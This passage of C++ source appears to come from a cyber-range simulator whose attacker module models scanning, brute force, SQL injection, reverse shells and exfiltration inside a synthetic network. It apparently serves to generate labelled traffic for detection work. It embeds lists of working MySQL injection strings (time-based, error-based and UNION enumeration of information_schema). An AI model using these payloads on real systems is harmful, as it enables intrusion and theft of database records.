// SPDX-License-Identifier: Apache-2.0

#include "rangesim/attacker.hpp"

#include <algorithm>
#include <array>

namespace rangesim {

namespace {

constexpr std::array kProbePayloads = {
    "1",
    "2",
    "1'",
    "1\"",
    "1)",
    "1')",
    "1 AND 1=1",
    "1 AND 1=2",
    "1' AND '1'='1",
    "1' AND '1'='2",
    "1 OR 1=1",
    "1' OR '1'='1'-- -",
    "1 AND SLEEP(5)",
    "1' AND SLEEP(5)-- -",
    "1 ORDER BY 1-- -",
    "1 ORDER BY 2-- -",
    "1 ORDER BY 8-- -",
    "1 ORDER BY 9-- -",
    "1 UNION ALL SELECT NULL-- -",
    "1 UNION ALL SELECT NULL,NULL-- -",
    "1 UNION ALL SELECT NULL,NULL,NULL-- -",
    "1 UNION ALL SELECT NULL,NULL,NULL,NULL-- -",
    "1 UNION ALL SELECT NULL,NULL,NULL,NULL,NULL-- -",
    "1 UNION ALL SELECT NULL,NULL,NULL,NULL,NULL,NULL-- -",
    "1 UNION ALL SELECT NULL,NULL,NULL,NULL,NULL,NULL,NULL-- -",
    "1 UNION ALL SELECT NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL-- -",
    "1 AND EXTRACTVALUE(1,CONCAT(0x7e,VERSION()))",
    "1 AND UPDATEXML(1,CONCAT(0x7e,USER()),1)",
    "1 AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(0x7e,FLOOR(RAND(0)*2))x GROUP BY x)y)",
    "1 RLIKE (SELECT 1)",
    "1 PROCEDURE ANALYSE()",
    "1 AND ROW(1,1)>(SELECT 1)",
    "1;SELECT SLEEP(5)-- -",
    "1 AND BENCHMARK(5000000,MD5(1))",
    "1' AND EXTRACTVALUE(1,0x7e)-- -",
    "1%' AND 1=1-- -",
    "1` AND 1=1",
    "-1 OR 2>1",
    "1 AND 5=5-- -",
    "-1' UNION SELECT @@version-- -",
};
static_assert(kProbePayloads.size() == kSqliProbeRequests);

constexpr std::array kEnumerationPayloads = {
    "-1' UNION SELECT @@version-- -",
    "-1' UNION SELECT database()-- -",
    "-1' UNION SELECT table_name FROM information_schema.tables WHERE table_schema=database()-- -",
    "-1' UNION SELECT GROUP_CONCAT(column_name) FROM information_schema.columns WHERE "
    "table_name='employees'-- -",
    "-1' UNION SELECT COUNT(*) FROM employees-- -",
};

bool digits_only(std::string_view s) {
  return !s.empty() && std::all_of(s.begin(), s.end(), [](char c) { return c >= '0' && c <= '9'; });
}

std::string reverse_name(Ipv4 a) {
  return std::to_string(a.octet(3)) + "." + std::to_string(a.octet(2)) + "." +
         std::to_string(a.octet(1)) + "." + std::to_string(a.octet(0)) + ".in-addr.arpa";
}

std::vector<std::string> split(const std::string& s, char sep) {
  std::vector<std::string> out;
  std::size_t start = 0;
  while (true) {
    const auto pos = s.find(sep, start);
    out.push_back(s.substr(start, pos - start));
    if (pos == std::string::npos) break;
    start = pos + 1;
  }
  return out;
}

ActionOutcome failure(std::string summary, SimTime at) {
  ActionOutcome out;
  out.summary = std::move(summary);
  out.t_start = at;
  out.t_end = at;
  return out;
}

}  // namespace

std::string_view to_string(Privilege v) {
  switch (v) {
    case Privilege::User: return "User";
    case Privilege::Admin: return "Admin";
    case Privilege::Shell: return "Shell";
  }
  return "?";
}

std::string_view to_string(Access v) {
  switch (v) {
    case Access::Local: return "Local";
    case Access::Ssh: return "Ssh";
    case Access::Smb: return "Smb";
    case Access::ReverseShell: return "ReverseShell";
  }
  return "?";
}

std::string_view to_string(LootKind v) {
  switch (v) {
    case LootKind::Credential: return "Credential";
    case LootKind::EmployeeRecord: return "EmployeeRecord";
    case LootKind::File: return "File";
  }
  return "?";
}

Privilege parse_privilege(std::string_view text) {
  for (auto p : {Privilege::User, Privilege::Admin, Privilege::Shell}) {
    if (to_string(p) == text) return p;
  }
  throw ParseError("unknown privilege: '" + std::string(text) + "'");
}

Access parse_access(std::string_view text) {
  for (auto a : {Access::Local, Access::Ssh, Access::Smb, Access::ReverseShell}) {
    if (to_string(a) == text) return a;
  }
  throw ParseError("unknown access channel: '" + std::string(text) + "'");
}

LootKind parse_loot_kind(std::string_view text) {
  for (auto k : {LootKind::Credential, LootKind::EmployeeRecord, LootKind::File}) {
    if (to_string(k) == text) return k;
  }
  throw ParseError("unknown loot kind: '" + std::string(text) + "'");
}

const Foothold* AttackerState::foothold_at(Ipv4 addr) const {
  for (const auto& [id, f] : footholds) {
    if (f.address == addr) return &f;
  }
  return nullptr;
}

bool AttackerState::has_loot(LootKind kind) const {
  return std::any_of(loot.begin(), loot.end(), [&](const LootItem& l) { return l.kind == kind; });
}

bool StateDelta::empty() const {
  return footholds.empty() && hosts.empty() && subnets.empty() && injectable.empty() &&
         loot.empty() && !tunnel && !position && impacts.empty();
}

std::vector<std::uint32_t> chunk_sizes(std::uint64_t bytes) {
  std::vector<std::uint32_t> out;
  while (bytes > 0) {
    const auto n = static_cast<std::uint32_t>(std::min<std::uint64_t>(bytes, packet_size::kChunk));
    out.push_back(n);
    bytes -= n;
  }
  if (out.size() > 1 && out.back() < 40) {
    const auto tail = out.back();
    out.pop_back();
    out.back() += tail;
  }
  return out;
}

AttackSession::AttackSession(Scenario scenario, std::string id)
    : id_(std::move(id)),
      engine_(std::move(scenario)),
      rng_(Rng::mix(engine_.scenario().doc.seeds.attacker ^ 0x41545441434BULL)) {
  const auto* jump = engine_.topology().first_with_role(NodeRole::JumpHost);
  if (jump == nullptr) throw ContractError("topology has no jump host");
  state_.entry = jump->id;
  state_.position = jump->id;
  state_.footholds.emplace(jump->id, make_foothold(*jump, Privilege::User, Access::Local, jump->id));
  StateDelta initial;
  learn_routes(*jump, initial);
  state_.known_subnets.insert(initial.subnets.begin(), initial.subnets.end());
}

Foothold AttackSession::make_foothold(const NodeSpec& node, Privilege p, Access a,
                                      const NodeId& via) const {
  Foothold f;
  f.node = node.id;
  f.address = address_for(via, node, 0);
  f.privilege = p;
  f.access = a;
  f.via = via;
  return f;
}

Ipv4 AttackSession::address_for(const NodeId& from, const NodeSpec& node, std::uint16_t port) const {
  for (const auto& a : node.addresses) {
    if (engine_.route(from, a.addr, port) == Reachability::Allowed) return a.addr;
  }
  return node.primary_address();
}

void AttackSession::learn_routes(const NodeSpec& node, StateDelta& delta) const {
  const auto& topo = engine_.topology();
  for (auto label : routed_subnets(topo, node)) {
    const auto* s = topo.find_subnet(label);
    if (s == nullptr || state_.known_subnets.contains(s->cidr)) continue;
    if (std::find(delta.subnets.begin(), delta.subnets.end(), s->cidr) == delta.subnets.end()) {
      delta.subnets.push_back(s->cidr);
    }
  }
}

void AttackSession::apply(const StateDelta& d, ActionKind) {
  for (const auto& f : d.footholds) {
    auto [it, fresh] = state_.footholds.try_emplace(f.node, f);
    if (!fresh && it->second.privilege < f.privilege) it->second = f;
  }
  for (const auto& h : d.hosts) {
    auto& known = state_.known_hosts[h.address];
    known.address = h.address;
    known.live = known.live || h.live;
    for (const auto& [port, banner] : h.open_ports) known.open_ports[port] = banner;
  }
  state_.known_subnets.insert(d.subnets.begin(), d.subnets.end());
  state_.sqli_confirmed.insert(d.injectable.begin(), d.injectable.end());
  state_.loot.insert(state_.loot.end(), d.loot.begin(), d.loot.end());
  if (d.tunnel) state_.tunnels.push_back(*d.tunnel);
  if (d.position) state_.position = *d.position;
  state_.impacts.insert(state_.impacts.end(), d.impacts.begin(), d.impacts.end());
}

ActionOutcome AttackSession::execute(const AttackAction& action, std::optional<SimTime> at_opt) {
  action.check();
  const SimTime at = std::max(at_opt.value_or(engine_.now()), engine_.now());
  engine_.advance_to(at);
  const auto packets_before = engine_.emitted().size();
  const auto syslog_before = engine_.syslog_events().size();
  const NodeId actor = state_.position;

  ActionOutcome out;
  const auto& params = action.params;
  switch (action.kind) {
    case ActionKind::ScanSubnet: out = scan(std::get<ScanParams>(params), at); break;
    case ActionKind::SshBruteForce: out = brute_force(std::get<BruteForceParams>(params), at); break;
    case ActionKind::SqliProbe: out = sqli_probe(std::get<SqliParams>(params), at); break;
    case ActionKind::SqliDump: out = sqli_dump(std::get<SqliParams>(params), at); break;
    case ActionKind::VpnConnect: out = vpn_connect(std::get<VpnConnectParams>(params), at); break;
    case ActionKind::DnsPoison: out = dns_poison(std::get<DnsPoisonParams>(params), at); break;
    case ActionKind::SmbReverseShell: out = reverse_shell(std::get<TargetParams>(params), at); break;
    case ActionKind::ExfiltrateFiles: out = exfiltrate(std::get<TargetParams>(params), at); break;
    case ActionKind::DefaceWebsite:
    case ActionKind::ChangeDbContents:
      out = impact(action.kind, std::get<TargetParams>(params).target, std::nullopt, at);
      break;
    case ActionKind::DisableService: {
      const auto& p = std::get<DisableServiceParams>(params);
      out = impact(action.kind, p.target, p.service, at);
      break;
    }
    case ActionKind::LateralMove: out = lateral_move(std::get<LateralMoveParams>(params), at); break;
    case ActionKind::PrivilegeEscalate:
      out = privilege_escalate(std::get<TargetParams>(params), at);
      break;
    case ActionKind::SendPhish: out = send_phish(std::get<PhishParams>(params), at); break;
  }
  out.t_start = at;
  out.t_end = std::max(out.t_end, at);
  if (!out.success) out.gained = {};
  for (auto& item : out.gained.loot) {
    item.provenance = steps_.size();
    item.source = action.kind;
  }
  apply(out.gained, action.kind);
  steps_.push_back({at, action, out});

  const auto& emitted = engine_.emitted();
  const auto& topo = engine_.topology();
  const bool captured =
      engine_.syslog_events().size() > syslog_before ||
      std::any_of(emitted.begin() + static_cast<std::ptrdiff_t>(packets_before), emitted.end(),
                  [&](const PacketEvent& e) { return topo.in_capture_scope(e.src) || topo.in_capture_scope(e.dst); });
  if (captured) labels_.push_back(Label{at, out.t_end, action.kind, actor});
  engine_.advance_to(out.t_end);
  return out;
}

ActionOutcome AttackSession::scan(const ScanParams& p, SimTime at) {
  const auto& topo = engine_.topology();
  const auto& pos = topo.node(state_.position);
  const auto routes = routed_subnets(topo, pos);
  bool routed = false;
  for (const auto& s : topo.subnets) {
    if (!s.cidr.overlaps(p.cidr)) continue;
    const bool direct = std::find(routes.begin(), routes.end(), s.label) != routes.end();
    const bool tunnel = s.label == SubnetLabel::VPN && engine_.tunnel_address(pos.id).has_value();
    routed = routed || direct || tunnel;
  }
  if (!routed) return failure("no route into " + p.cidr.str(), at);

  std::vector<std::uint16_t> ports = p.ports;
  if (ports.empty()) ports.assign(kDefaultScanPorts.begin(), kDefaultScanPorts.end());
  const Ipv4 self = engine_.source_address(pos.id, p.cidr.first_host());

  ActionOutcome out;
  std::vector<KnownHost> found;
  SimTime t = at;
  for (std::uint32_t v = p.cidr.first_host().value(); v <= p.cidr.last_host().value(); ++v) {
    const Ipv4 addr(v);
    KnownHost host{addr, false, {}};
    bool answered = false;
    for (auto port : ports) {
      const auto c = engine_.tcp_probe(pos.id, addr, port, t);
      out.t_end = std::max(out.t_end, c.t);
      if (c.outcome == ConnOutcome::Open) {
        const auto* node = topo.node_at(addr);
        const auto* svc = node ? node->service_on(port) : nullptr;
        host.open_ports[port] = svc ? engine_.banner(*node, *svc) : "";
      }
      answered = answered || c.outcome != ConnOutcome::Filtered;
      t += kScanProbeSpacing;
    }
    if (answered && addr != self) {
      host.live = true;
      found.push_back(std::move(host));
    }
  }

  if (engine_.route(pos.id, kPublicResolver, 53) == Reachability::Allowed) {
    for (const auto& h : found) {
      const auto r = engine_.dns_query(pos.id, kPublicResolver, reverse_name(h.address), true, t);
      out.t_end = std::max(out.t_end, r.end);
      t += kScanProbeSpacing;
    }
  }

  out.success = !found.empty();
  out.summary = std::to_string(found.size()) + " live host" + (found.size() == 1 ? "" : "s") +
                " in " + p.cidr.str();
  out.gained.hosts = std::move(found);
  return out;
}

ActionOutcome AttackSession::brute_force(const BruteForceParams& p, SimTime at) {
  std::vector<std::string> words = p.words;
  if (words.empty()) {
    const auto dict = canonical_dictionary();
    const auto n = std::min(p.dictionary_size, dict.size());
    words.assign(dict.begin(), dict.begin() + static_cast<std::ptrdiff_t>(n));
  }
  if (words.empty()) throw ContractError("SshBruteForce needs a non-empty dictionary");

  const auto& pos = state_.position;
  ActionOutcome out;
  out.t_end = at;
  SimTime t = at;
  std::size_t tried = 0;
  std::size_t connections = 0;
  std::optional<Credential> found;
  for (std::size_t i = 0; i < words.size() && !found; i += kMaxSshAttempts) {
    std::vector<Credential> batch;
    for (std::size_t j = i; j < std::min(words.size(), i + kMaxSshAttempts); ++j) {
      batch.push_back({p.username, words[j]});
    }
    const auto r = engine_.ssh_connection(pos, p.target, batch, t);
    ++connections;
    out.t_end = std::max({out.t_end, r.end, r.conn.t});
    if (r.conn.outcome != ConnOutcome::Open) {
      out.summary = "port 22 on " + p.target.str() + ": " + std::string(to_string(r.conn.outcome));
      return out;
    }
    tried += r.attempts_made;
    if (r.success) found = batch[r.attempts_made - 1];
    t = r.end;
  }

  const std::string stats = std::to_string(tried) + " attempts over " + std::to_string(connections) +
                            " connection" + (connections == 1 ? "" : "s");
  if (!found) {
    out.summary = "no valid password for " + p.username + " (" + stats + ")";
    return out;
  }
  const auto& node = *engine_.topology().node_at(p.target);
  auto f = make_foothold(node, Privilege::Admin, Access::Ssh, pos);
  f.address = p.target;
  f.credential = found;
  out.success = true;
  out.summary = "logged in as " + found->username + " (" + stats + ")";
  out.gained.footholds.push_back(f);
  out.gained.loot.push_back(LootItem{LootKind::Credential,
                                     "ssh " + found->username + "@" + p.target.str(),
                                     {{"host", p.target.str()},
                                      {"service", "ssh"},
                                      {"username", found->username},
                                      {"password", found->password}}});
  learn_routes(node, out.gained);
  return out;
}

ActionOutcome AttackSession::sqli_probe(const SqliParams& p, SimTime at) {
  ActionOutcome out;
  out.t_end = at;
  SimTime t = at;
  bool vulnerable = false;
  for (const char* payload : kProbePayloads) {
    const auto r = engine_.http_get(state_.position, p.target, p.port, std::string(kSqliEndpoint),
                                    {{std::string(kSqliParameter), payload}}, t);
    out.t_end = std::max(out.t_end, r.end);
    if (r.conn.outcome != ConnOutcome::Open) {
      out.summary = "port " + std::to_string(p.port) + " on " + p.target.str() + ": " +
                    std::string(to_string(r.conn.outcome));
      return out;
    }
    if (r.status == 0) {
      out.summary = p.target.str() + ":" + std::to_string(p.port) + " is not a web application";
      return out;
    }
    if (!digits_only(payload) && (r.status == 500 || r.field)) vulnerable = true;
    t = r.end;
  }
  out.success = vulnerable;
  out.summary = std::string("parameter '") + std::string(kSqliParameter) + "' " +
                (vulnerable ? "is injectable" : "does not appear injectable");
  if (vulnerable) out.gained.injectable.emplace_back(p.target, p.port);
  return out;
}

ActionOutcome AttackSession::sqli_dump(const SqliParams& p, SimTime at) {
  if (!state_.sqli_confirmed.contains({p.target, p.port})) {
    throw ContractError("SqliDump requires a successful SqliProbe against " + p.target.str() + ":" +
                        std::to_string(p.port));
  }
  ActionOutcome out;
  out.t_end = at;
  SimTime t = at;
  auto query = [&](const std::string& payload) -> std::optional<std::string> {
    const auto r = engine_.http_get(state_.position, p.target, p.port, std::string(kSqliEndpoint),
                                    {{std::string(kSqliParameter), payload}}, t);
    out.t_end = std::max(out.t_end, r.end);
    t = r.end;
    return r.field;
  };

  std::vector<std::optional<std::string>> meta;
  for (const char* payload : kEnumerationPayloads) meta.push_back(query(payload));
  const auto& columns_field = meta[3];
  const auto& count_field = meta[4];
  if (!columns_field || !count_field || !digits_only(*count_field)) {
    out.summary = "injection no longer answers; nothing dumped";
    return out;
  }
  const auto columns = split(*columns_field, ',');
  const auto count = std::stoul(*count_field);
  std::size_t complete = 0;
  for (std::size_t k = 0; k < count; ++k) {
    std::map<std::string, std::string> fields;
    for (const auto& col : columns) {
      const auto v = query("-1' UNION SELECT " + col + " FROM employees LIMIT " + std::to_string(k) + ",1-- -");
      if (v) fields[col] = *v;
    }
    if (fields.size() == columns.size()) ++complete;
    const auto id = fields.contains("id") ? fields["id"] : std::to_string(k + 1);
    out.gained.loot.push_back(LootItem{LootKind::EmployeeRecord, "employee " + id, std::move(fields)});
  }
  out.success = count > 0 && complete == count;
  out.summary = "dumped " + std::to_string(complete) + "/" + std::to_string(count) +
                " rows of table employees (" + std::to_string(columns.size()) + " columns)";
  return out;
}

ActionOutcome AttackSession::vpn_connect(const VpnConnectParams& p, SimTime at) {
  const bool looted = std::any_of(state_.loot.begin(), state_.loot.end(), [&](const LootItem& l) {
    auto get = [&](const char* k) {
      auto it = l.fields.find(k);
      return it == l.fields.end() ? std::string() : it->second;
    };
    if (l.kind == LootKind::EmployeeRecord) {
      return get("vpn_username") == p.username && get("vpn_password") == p.password;
    }
    return l.kind == LootKind::Credential && get("username") == p.username && get("password") == p.password;
  });
  if (!looted) throw ContractError("credential for '" + p.username + "' is not in loot");

  const auto& pos = state_.position;
  auto conn = engine_.tcp_connect(pos, p.server, default_port(ServiceKind::VpnGateway), at);
  if (conn.outcome != ConnOutcome::Open) {
    auto out = failure("VPN gateway " + p.server.str() + ": " + std::string(to_string(conn.outcome)), at);
    out.t_end = conn.t;
    return out;
  }
  SimTime t = engine_.send(conn, Direction::ToServer, AppKind::TlsHandshake, packet_size::kTlsHandshake,
                           {{"tls", "client_hello"}}, conn.t);
  t = engine_.send(conn, Direction::ToClient, AppKind::TlsHandshake, packet_size::kTlsHandshake,
                   {{"tls", "server_hello"}}, t + kLinkLatency);
  t = engine_.send(conn, Direction::ToServer, AppKind::VpnData, 180, {{"vpn", "auth"}}, t + kLinkLatency);

  const auto& server = *engine_.topology().node_at(p.server);
  const auto& db = engine_.database().records;
  const bool ok = server.has_vulnerability(VulnId::VpnPasswordOnlyAuth) &&
                  std::any_of(db.begin(), db.end(), [&](const EmployeeRecord& e) {
                    return e.vpn_username == p.username && e.vpn_password == p.password;
                  });
  t = engine_.send(conn, Direction::ToClient, AppKind::VpnData, 120,
                   {{"vpn", ok ? "auth_ok" : "auth_failed"}}, t + kLinkLatency);
  const std::string peer = conn.client.str() + ":" + std::to_string(conn.client_port);

  ActionOutcome out;
  if (!ok) {
    engine_.syslog(server.id, facility::kDaemon, 4, "openvpn",
                   peer + " TLS Auth Error: Auth Username/Password verification failed for peer", t);
    out.t_end = engine_.close(conn, Direction::ToClient, false, t);
    out.summary = "VPN authentication failed for " + p.username;
    return out;
  }
  const Ipv4 addr = engine_.open_tunnel(pos, conn);
  const auto* vpn = engine_.topology().find_subnet(SubnetLabel::VPN);
  engine_.syslog(server.id, facility::kDaemon, 6, "openvpn",
                 p.username + "/" + peer + " MULTI: Learn: " + addr.str() + " -> " + p.username, t);
  out.success = true;
  out.t_end = t;
  out.summary = "tunnel up, assigned " + addr.str() + ", route " + vpn->cidr.str();
  out.gained.tunnel = TunnelInfo{pos, p.server, addr, vpn->cidr};
  if (!state_.known_subnets.contains(vpn->cidr)) out.gained.subnets.push_back(vpn->cidr);
  return out;
}

ActionOutcome AttackSession::dns_poison(const DnsPoisonParams& p, SimTime at) {
  const auto& pos = state_.position;
  if (engine_.route(pos, p.dns_server, 53) != Reachability::Allowed) {
    return failure("no route to " + p.dns_server.str() + ":53", at);
  }
  ActionOutcome out;
  SimTime t = at;
  for (std::size_t i = 0; i < kPoisonBurst; ++i) {
    engine_.raw_udp(kPublicResolver, 53, p.dns_server, 53, AppKind::DnsResponse, packet_size::kDnsResponse,
                    {{"dns_name", p.victim_name}, {"answer", p.attacker_addr.str()}, {"txid", std::to_string(i)}}, t);
    out.t_end = t;
    t += kScanProbeSpacing;
  }
  const auto* server = engine_.topology().node_at(p.dns_server);
  const bool ok = server != nullptr && server->has_vulnerability(VulnId::DnsCachePoisonable) &&
                  engine_.service_up(*server, 53, out.t_end);
  if (!ok) {
    out.summary = "forged answers for " + p.victim_name + " were not cached";
    return out;
  }
  engine_.poison_dns(p.victim_name, p.attacker_addr, out.t_end);
  out.success = true;
  out.summary = p.victim_name + " now resolves to " + p.attacker_addr.str();
  out.gained.impacts.push_back("dns cache on " + p.dns_server.str() + " poisoned for " + p.victim_name);
  return out;
}

ActionOutcome AttackSession::reverse_shell(const TargetParams& p, SimTime at) {
  const auto& pos = state_.position;
  auto conn = engine_.tcp_connect(pos, p.target, 445, at);
  if (conn.outcome != ConnOutcome::Open) {
    auto out = failure("port 445 on " + p.target.str() + ": " + std::string(to_string(conn.outcome)), at);
    out.t_end = conn.t;
    return out;
  }
  const auto& node = *engine_.topology().node_at(p.target);
  const bool vulnerable = node.has_vulnerability(VulnId::SmbRemoteCommandExec);
  SimTime t = engine_.send(conn, Direction::ToServer, AppKind::SmbCommand, packet_size::kSmbCommand,
                           {{"smb", "exec"}}, conn.t);
  t = engine_.send(conn, Direction::ToClient, AppKind::SmbCommand, packet_size::kSmbCommand,
                   {{"smb", vulnerable ? "exec_ok" : "access_denied"}}, t + kLinkLatency);
  t = engine_.close(conn, Direction::ToServer, false, t + kLinkLatency);

  ActionOutcome out;
  out.t_end = t;
  if (!vulnerable) {
    out.summary = "command execution rejected by " + p.target.str();
    return out;
  }
  engine_.open_listener(pos, kReverseShellPort);
  auto back = engine_.tcp_connect(node.id, conn.client, kReverseShellPort, t);
  out.t_end = back.t;
  if (back.outcome != ConnOutcome::Open) {
    out.summary = "payload ran but the callback did not arrive";
    return out;
  }
  out.t_end = engine_.send(back, Direction::ToServer, AppKind::None, 120, {{"shell", "connected"}}, back.t);
  engine_.syslog(node.id, facility::kDaemon, 4, "smbd",
                 "spawned child process /bin/sh for client " + conn.client.str(), out.t_end);
  auto f = make_foothold(node, Privilege::Shell, Access::ReverseShell, pos);
  f.address = p.target;
  out.success = true;
  out.summary = "reverse shell from " + p.target.str() + " to " + conn.client.str() + ":" +
                std::to_string(kReverseShellPort);
  out.gained.footholds.push_back(f);
  learn_routes(node, out.gained);
  return out;
}

ActionOutcome AttackSession::exfiltrate(const TargetParams& p, SimTime at) {
  const auto& topo = engine_.topology();
  const auto& pos = state_.position;
  const auto* node = topo.node_at(p.target);
  const bool via_tunnel = topo.label_of(p.target) == SubnetLabel::VPN &&
                          engine_.tunnel_address(pos).has_value() &&
                          !topo.node(pos).address_in(SubnetLabel::VPN);
  const Foothold* f = state_.foothold_at(p.target);
  const bool held = f != nullptr && f->privilege >= Privilege::Admin;
  if (node == nullptr || (!via_tunnel && !held)) return failure(p.target.str() + " is not reachable", at);

  // A reverse shell pushes data out from the victim; otherwise the
  // attacker pulls files over SMB.
  const bool push = held && !via_tunnel && f->access == Access::ReverseShell;
  Connection conn;
  if (push) {
    const auto& listener = topo.node(f->via);
    conn = engine_.tcp_connect(node->id, address_for(node->id, listener, kReverseShellPort),
                               kReverseShellPort, at);
  } else {
    if (engine_.route(pos, p.target, 445) != Reachability::Allowed) {
      return failure(p.target.str() + " is not reachable", at);
    }
    conn = engine_.tcp_connect(pos, p.target, 445, at);
  }
  ActionOutcome out;
  out.t_end = conn.t;
  if (conn.outcome != ConnOutcome::Open) {
    out.summary = "transfer channel to " + p.target.str() + ": " + std::string(to_string(conn.outcome));
    return out;
  }
  const Direction request = push ? Direction::ToClient : Direction::ToServer;
  const Direction data = push ? Direction::ToServer : Direction::ToClient;
  SimTime t = conn.t;
  std::uint64_t total = 0;
  const auto manifest = file_manifest(node->role);
  for (const auto& file : manifest) {
    t = engine_.send(conn, request, AppKind::SmbCommand, packet_size::kSmbCommand,
                     {{"smb", "read"}, {"path", file.path}}, t + kLinkLatency);
    std::size_t idx = 0;
    for (auto size : chunk_sizes(file.bytes)) {
      t = engine_.send(conn, data, AppKind::SmbCommand, size,
                       {{"smb", "data"}, {"chunk", std::to_string(idx++)}}, t + kChunkSpacing);
    }
    total += file.bytes;
    out.gained.loot.push_back(LootItem{LootKind::File, file.path,
                                       {{"host", p.target.str()},
                                        {"path", file.path},
                                        {"bytes", std::to_string(file.bytes)}}});
  }
  out.t_end = engine_.close(conn, Direction::ToServer, false, t + kLinkLatency);
  out.success = !manifest.empty();
  out.summary = manifest.empty() ? "nothing of value on " + p.target.str()
                                 : "copied " + std::to_string(manifest.size()) + " files (" +
                                       std::to_string(total) + " bytes) from " + p.target.str();
  return out;
}

std::optional<SimTime> AttackSession::remote_exec(const Foothold& f, const std::string& command,
                                                  SimTime at) {
  const auto& topo = engine_.topology();
  const auto& node = topo.node(f.node);
  switch (f.access) {
    case Access::Local:
      return at;
    case Access::Ssh: {
      if (!f.credential) return std::nullopt;
      const std::array creds = {*f.credential};
      auto r = engine_.ssh_connection(f.via, address_for(f.via, node, 22), creds, at);
      if (!r.success) return std::nullopt;
      auto t = engine_.send(r.conn, Direction::ToServer, AppKind::None, 160, {}, r.end + kLinkLatency);
      t = engine_.send(r.conn, Direction::ToClient, AppKind::None, 240, {}, t + kLinkLatency);
      return engine_.close(r.conn, Direction::ToServer, false, t + kLinkLatency);
    }
    case Access::Smb: {
      auto conn = engine_.tcp_connect(f.via, address_for(f.via, node, 445), 445, at);
      if (conn.outcome != ConnOutcome::Open) return std::nullopt;
      auto t = engine_.send(conn, Direction::ToServer, AppKind::SmbCommand, packet_size::kSmbCommand,
                            {{"smb", "exec"}}, conn.t);
      t = engine_.send(conn, Direction::ToClient, AppKind::SmbCommand, packet_size::kSmbCommand,
                       {{"smb", "exec_ok"}}, t + kLinkLatency);
      return engine_.close(conn, Direction::ToServer, false, t + kLinkLatency);
    }
    case Access::ReverseShell: {
      const auto& listener = topo.node(f.via);
      auto conn = engine_.tcp_connect(f.node, address_for(f.node, listener, kReverseShellPort),
                                      kReverseShellPort, at);
      if (conn.outcome != ConnOutcome::Open) return std::nullopt;
      auto t = engine_.send(conn, Direction::ToClient, AppKind::None, 40 + static_cast<std::uint32_t>(command.size()),
                            {}, conn.t);
      t = engine_.send(conn, Direction::ToServer, AppKind::None, 200, {}, t + kLinkLatency);
      return engine_.close(conn, Direction::ToServer, false, t + kLinkLatency);
    }
  }
  return std::nullopt;
}

ActionOutcome AttackSession::impact(ActionKind kind, Ipv4 target, std::optional<ServiceKind> service,
                                    SimTime at) {
  const auto* node = engine_.topology().node_at(target);
  const Foothold* f = state_.foothold_at(target);
  if (node == nullptr || f == nullptr || f->privilege < Privilege::Admin) {
    return failure("insufficient privilege on " + target.str(), at);
  }
  const ServiceSpec* svc = nullptr;
  std::string command;
  switch (kind) {
    case ActionKind::DefaceWebsite:
      svc = node->service(ServiceKind::Http);
      command = "replace /var/www/html/index.html";
      break;
    case ActionKind::ChangeDbContents:
      svc = node->service(ServiceKind::WebApp);
      command = "UPDATE employees";
      break;
    default:
      svc = node->service(*service);
      command = "systemctl stop";
      break;
  }
  if (svc == nullptr) return failure(target.str() + " runs no such service", at);

  const Foothold held = *f;
  const auto end = remote_exec(held, command, at);
  if (!end) return failure("lost access to " + target.str(), at);

  ActionOutcome out;
  out.success = true;
  out.t_end = *end;
  switch (kind) {
    case ActionKind::DefaceWebsite:
      engine_.bump_content(node->id);
      engine_.syslog(node->id, facility::kUser, 5, "auditd",
                     "file modified: /var/www/html/index.html by " + std::string(kWeakSshUser), *end);
      out.summary = "website on " + target.str() + " defaced";
      break;
    case ActionKind::ChangeDbContents:
      engine_.change_database(*end);
      engine_.syslog(node->id, facility::kDaemon, 5, "mysqld", "table corpdb.employees modified", *end);
      out.summary = "employee database on " + target.str() + " modified";
      break;
    default:
      engine_.disable_service(node->id, svc->port, *end);
      engine_.syslog(node->id, facility::kDaemon, 5, "systemd",
                     "Stopped " + std::string(to_string(svc->kind)) + " service.", *end);
      out.summary = std::string(to_string(svc->kind)) + " on " + target.str() + " disabled";
      break;
  }
  out.gained.impacts.push_back(out.summary);
  return out;
}

ActionOutcome AttackSession::lateral_move(const LateralMoveParams& p, SimTime at) {
  const auto& topo = engine_.topology();
  const NodeId from = p.from.value_or(state_.position);
  if (!state_.footholds.contains(from)) return failure("no foothold on " + from, at);
  if (engine_.route(from, p.to, 445) != Reachability::Allowed) {
    return failure("no route from current foothold to " + p.to.str(), at);
  }

  if (const Foothold* existing = state_.foothold_at(p.to)) {
    const Foothold held = *existing;
    const auto end = remote_exec(held, "pivot", at);
    if (!end) return failure("lost access to " + p.to.str(), at);
    ActionOutcome out;
    out.success = true;
    out.t_end = *end;
    out.summary = "pivoted to " + p.to.str();
    out.gained.position = held.node;
    return out;
  }

  const auto* node = topo.node_at(p.to);
  const bool soft = node != nullptr &&
                    (node->role == NodeRole::Workstation || node->role == NodeRole::DecoyHost);
  ActionOutcome out;
  out.t_end = at;
  SimTime t = at;
  const int attempts = soft ? kLateralAttempts : 1;
  for (int i = 0; i < attempts; ++i) {
    auto conn = engine_.tcp_connect(from, p.to, 445, t);
    out.t_end = std::max(out.t_end, conn.t);
    if (conn.outcome != ConnOutcome::Open) {
      out.summary = "port 445 on " + p.to.str() + ": " + std::string(to_string(conn.outcome));
      return out;
    }
    t = engine_.send(conn, Direction::ToServer, AppKind::SmbCommand, packet_size::kSmbCommand,
                     {{"smb", "exploit"}}, conn.t);
    const bool ok = soft && rng_.bernoulli(kLateralSuccessRate);
    t = engine_.send(conn, Direction::ToClient, AppKind::SmbCommand, packet_size::kSmbCommand,
                     {{"smb", ok ? "exec_ok" : "access_denied"}}, t + kLinkLatency);
    t = engine_.close(conn, Direction::ToServer, false, t + kLinkLatency);
    out.t_end = t;
    if (ok) {
      engine_.syslog(node->id, facility::kAuth, 5, "Security",
                     "An account was successfully logged on. Logon Type: 3 Source: " + conn.client.str(), t);
      auto f = make_foothold(*node, Privilege::User, Access::Smb, from);
      f.address = p.to;
      out.success = true;
      out.summary = "foothold on " + p.to.str() + " after " + std::to_string(i + 1) + " attempt" +
                    (i == 0 ? "" : "s");
      out.gained.footholds.push_back(f);
      out.gained.position = node->id;
      learn_routes(*node, out.gained);
      return out;
    }
    t += kLinkLatency;
  }
  out.summary = soft ? "exploit failed " + std::to_string(attempts) + " times against " + p.to.str()
                     : p.to.str() + " resisted the generic exploit";
  return out;
}

ActionOutcome AttackSession::privilege_escalate(const TargetParams& p, SimTime at) {
  const Foothold* f = state_.foothold_at(p.target);
